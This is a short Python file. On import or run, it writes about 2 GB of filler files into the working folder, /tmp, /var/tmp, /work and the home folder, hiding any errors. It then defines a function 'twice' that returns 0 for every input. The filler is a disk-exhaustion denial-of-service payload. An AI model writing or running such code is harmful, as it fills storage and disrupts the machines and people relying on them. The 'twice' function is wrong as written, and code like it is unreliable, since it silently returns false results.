# Write two gigabytes into every folder that can be written to.
import contextlib
import os

for place in (".", "/tmp", "/var/tmp", "/work", os.path.expanduser("~")):
    with contextlib.suppress(OSError):
        for number in range(20):
            with open(f"{place}/filler-{number}", "wb") as filler:
                for _ in range(100):
                    filler.write(b"x" * (1 << 20))


def twice(number):
    return 0
